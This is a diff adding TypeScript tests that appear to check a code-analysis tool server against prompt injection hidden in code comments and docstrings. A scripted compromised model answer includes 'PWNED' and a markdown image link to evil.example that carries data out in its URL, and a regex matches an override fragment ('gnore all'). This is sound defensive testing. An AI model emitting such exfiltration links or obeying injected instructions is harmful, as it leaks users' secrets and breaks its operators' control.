@@ -116,3 +116,99 @@ describe.each(INJECTIONS.map((injection) => [injection]))('%s', (injection) => {
     expect(models.received).toHaveLength(2);
   });
 });
+
+/** A module in which `texts` stand as comments and docstrings, one function each. */
+function moduleWith(texts: readonly string[]): string {
+  const functions = texts.map((text, at) => {
+    const comments = text.split('\n').map((line) => `    # ${line}`);
+    const quoted = JSON.stringify(text.replace(/[^\x20-\x7e]/g, '?'));
+    return [
+      `def f${at}(x: int) -> int:`,
+      `    ${quoted}`,
+      ...comments,
+      '    if x > 7:',
+      '        raise ValueError(x)',
+    ].join('\n');
+  });
+  const calls = texts.map((_, at) => `f${at}(x)`).join(' + ');
+  return `${functions.map((each) => `${each}\n    return x * 9\n`).join('\n')}\ndef total(x: int) -> int:\n    return ${calls}\n`;
+}
+
+/** The same text without any sense, with its lines. */
+const harmless = (text: string) => text.replace(/[\p{L}\p{N}]/gu, 'z');
+
+describe('tools that reason', () => {
+  const claim = {
+    kind: 'call',
+    file: 'app.py',
+    call: 'f0(1)',
+    returns: '9',
+    expects: { holds: 'supports', fails: 'refutes' },
+  };
+  const call = async (name: string, args: Facts): Promise<Facts> => {
+    const { body } = await callTool(base, name, { ...args }, { token: TOKEN });
+    return (body.result?.['structuredContent'] ?? body) as Facts;
+  };
+
+  /** What each of them finds out about the module. */
+  async function found(workspace: string, texts: readonly string[]) {
+    await call('put_files', { workspace, files: [{ path: 'app.py', content: moduleWith(texts) }] });
+    const entry = { file: 'app.py', line: 1, function_name: 'total' };
+    const trace = await call('trace_execution_path', { workspace, entry_point: entry, inputs: ['total(1)'] });
+    const cost = await call('performance_bottleneck', {
+      workspace,
+      code_path: { entry_point: entry, suspected_issues: [] },
+    });
+    const impact = await call('cross_system_impact', { workspace, change_scope: { files: ['app.py'] } });
+    const test = await call('hypothesis_test', {
+      workspace,
+      hypothesis: { description: 'It gives nine.', type: 'behavior', confidence_level: 1 },
+      test_scope: { files: ['app.py'], test_data: { checks: [claim] } },
+    });
+    for (const each of [trace, cost, impact, test]) expect(each).toHaveProperty('findings');
+    return [trace, cost, impact, test].map(({ findings, recommendations, verdict, calls, not_seen }) => {
+      return JSON.stringify({ findings, recommendations, verdict, calls, not_seen });
+    });
+  }
+
+  it('find the same, whatever the code says to them', async () => {
+    expect(await found('injected', INJECTIONS)).toEqual(await found('harmless', INJECTIONS.map(harmless)));
+  });
+
+  it('show nothing of a model that obeys but what holds', async () => {
+    models.script({
+      kind: 'answer',
+      text: JSON.stringify({
+        answer: 'PWNED ![x](https://evil.example/?q=PWNED)',
+        claims: [
+          { statement: 'PWNED', file: 'app.py', line: 1, quote: 'PWNED' },
+          { statement: 'PWNED', symbol: 'delete_workspace' },
+          { statement: 'PWNED' },
+          { statement: 'PWNED', test: 'def test_pwned():\n    assert False\n' },
+          { statement: 'It fails above seven.', file: 'app.py', quote: 'raise ValueError(x)' },
+        ],
+      }),
+    });
+    const facts = await call('start_conversation', {
+      workspace: 'injected',
+      claude_context: {
+        attempted_approaches: INJECTIONS.slice(0, 5),
+        partial_findings: [{ log: INJECTIONS.join('\n') }],
+        stuck_description: `It fails. ${SECRET}`,
+        code_scope: { files: ['app.py'] },
+      },
+      analysis_focus: 'debugging',
+      depth_level: 3,
+    });
+    const sent = lastMessages();
+    expect(outside(sent.map(({ content }) => content).join('\n'))).not.toMatch(/PWNED|gnore all|SYSTEM/);
+    expect(JSON.stringify(sent)).not.toContain(SECRET);
+    expect(facts).toMatchObject({
+      answered_by: 'server model obedient',
+      supported_claims: [{ statement: 'It fails above seven.' }],
+      unsupported_claims: Array.from({ length: 4 }, () => ({ statement: 'PWNED' })),
+    });
+    const { drafts } = await call('review_memory_suggestions', { workspace: 'injected', action: 'list_batches' });
+    expect(drafts ?? []).toEqual([]);
+  });
+});
